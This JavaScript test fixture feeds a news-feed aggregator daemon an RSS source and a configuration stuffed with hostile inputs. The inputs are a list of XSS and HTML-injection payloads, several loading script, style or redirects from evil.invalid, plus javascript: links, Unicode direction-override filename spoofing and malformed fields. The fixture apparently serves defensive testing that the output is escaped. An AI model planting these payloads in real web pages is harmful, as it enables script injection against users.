// Attacks in every field that a publisher or a careless configuration fills.
// Whatever runs calls alert or asks for something at evil.invalid.
import { mkdtemp, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { rss, startOrigin } from './origin.mjs'
import { startDaemon, text, until } from './daemon.mjs'

export const attacks = [
  '<script>alert(1)</script>',
  '"><img src=//evil.invalid/x onerror=alert(1)>',
  "' onmouseover='alert(1)' autofocus onfocus='alert(1)' x='",
  '<svg/onload=alert(1)>',
  '</title></style></textarea></noscript><script src=//evil.invalid/x.js></script>',
  ']]><script>alert(1)</script>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<link rel=stylesheet href=//evil.invalid/x.css><style>@import "//evil.invalid/y.css"</style>',
  '<meta http-equiv=refresh content="0;url=//evil.invalid/">',
  '<base href=//evil.invalid/><form action=//evil.invalid><button autofocus>go</button></form>',
  '{{constructor.constructor("alert(1)")()}}<a href="javascript:alert(1)">x</a>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
]
const links = ['javascript:alert(1)', 'data:text/html,<script>alert(1)</script>', 'https://a.example/"onclick="alert(1)',
  'https://a.example/?a=1&b=<x>', 'java\nscript:alert(1)', '//evil.invalid/', 'https://例え.テスト/路径?q=台湾#段', '']
const titles = [
  ['ar', 'الجيش يعلن عن مناورات بحرية (PLA) قرب المضيق، 12 سفينة'], ['he', 'הצבא הודיע על תרגיל ימי PLA במצר'],
  ['zh-Hant', '國防部：共機12架次逾越海峽中線，國軍嚴密監控'], ['zh-Hans', '东部战区在台岛周边组织海空联合战备警巡'],
  ['ja', '防衛省、与那国島の電子戦部隊を増強へ'], ['ko', '북한이 동해상으로 탄도미사일을 발사했다'],
  ['fa', 'رزمایش مشترک دریایی در تنگهٔ هرمز'], ['th', 'กองทัพเรือซ้อมรบในทะเลจีนใต้'], ['vi', 'Tàu cá bị đâm trên Biển Đông'],
  ['ar', 'PLA 12 ' + '\u202e' + 'exe.gpj' + ' \u2066 isolates left open'], ['en', 'W'.repeat(400)],
]

function items() {
  const date = i => new Date(Date.now() - (i + 1) * 3600e3).toUTCString()
  const hostile = attacks.map((a, i) => ({
    id: `${i} ${a}`, title: `${a} attack ${i}`, link: links[i % links.length] || undefined, summary: a, content: `<p>words</p>${a}`,
    author: a, category: a, rights: a, language: a, enclosure: `https://a.example/${a}`, mime: a, image: `https://evil.invalid/${i}"${a}`, date: date(i),
  }))
  const spoken = titles.map(([language, title], i) => ({
    id: `t${i}`, title, link: `https://a.example/${language}/${i}`, summary: title, language, date: date(attacks.length + i),
    author: title.slice(0, 20), category: title.slice(0, 8),
  }))
  const odd = [
    { id: 'no fields' }, { id: 'no title', summary: 'only a summary' }, { id: 'old', title: 'before all dates', date: 'Mon, 01 Jan 0001 00:00:00 GMT' },
    { id: 'late', title: 'after all dates', date: 'Fri, 31 Dec 9999 23:59:59 GMT' }, { id: 'blank', title: ' \t ', summary: '\u200b' },
    { id: 'controls', title: 'a\u0085b\u009fc\ufffed\u2028e', link: 'https://a.example/%zz?\\^`{|}' },
  ]
  return [...hostile, ...spoken, ...odd]
}

// startHostile runs the daemon on a configuration and a source full of
// attacks, each as often as rounds says. JSON is YAML, so every string arrives
// as it is written here.
export async function startHostile(binary, { rounds = 1 } = {}) {
  const again = n => it => ({ ...it, id: `${it.id} ${n}`, title: `${it.title ?? ''} ${n}`, link: it.link && `${it.link}&round=${n}` })
  const all = Array.from({ length: rounds }, (_, n) => n ? items().map(again(n)) : items()).flat()
  const origin = await startOrigin(new Map([['/feed', rss(all, { title: attacks[0] })]]))
  const dir = await mkdtemp(join(tmpdir(), 'straitwire-hostile-'))
  const everything = { any: [{ source: { id: 'hostile' } }] }
  const config = {
    title: `${attacks[0]}${attacks[1]}`,
    contact: 'mailto:nobody@example.org',
    limits: { entries: all.length, allow_addresses: ['127.0.0.0/8'], allow_ports: [origin.port], min_interval: '1s', per_host: '1ms' },
    sources: [{
      id: 'hostile', title: `${attacks[1]}${attacks[2]}`, url: `http://127.0.0.1:${origin.port}/feed`, site: 'https://a.example/',
      publisher: attacks[0], country: 'ZZ', region: 'nowhere', language: 'en', schedule: '@every 2s',
    }],
    topics: attacks.map((a, i) => ({ id: `attack-${i}`, title: `${a} ${i}`, description: a, match: everything }))
      .concat([
        { id: 'arabic', title: 'مضيق هرمز والبحر الأحمر', description: 'هجمات على السفن التجارية (PLA) وطواقمها', match: { any: ['الجيش', 'رزمایش', 'PLA'] } },
        { id: 'chinese', title: '臺灣海峽', description: '共機、中線與國軍', match: { any: ['共機', '台岛', '与那国'] } },
        { id: 'terms', title: 'Attacks as terms', match: { any: [...attacks, 'attack'] } },
        { id: 'empty', title: 'Nothing', match: { any: ['never to be found'] } },
      ]),
  }
  const path = join(dir, 'config.yaml')
  await writeFile(path, JSON.stringify(config))
  const daemon = await startDaemon(binary, ['serve', '--config', path, '--data', join(dir, 'data')])
    .catch(err => { origin.close(); throw err })
  const stop = async () => { origin.close(); await daemon.stop() }
  await until('the hostile items', async () => JSON.parse(await text(`${daemon.url}/topics/attack-0.json`)).items.length >= attacks.length + titles.length)
    .catch(async err => { await stop(); throw err })
  return { ...daemon, stop, dir }
}
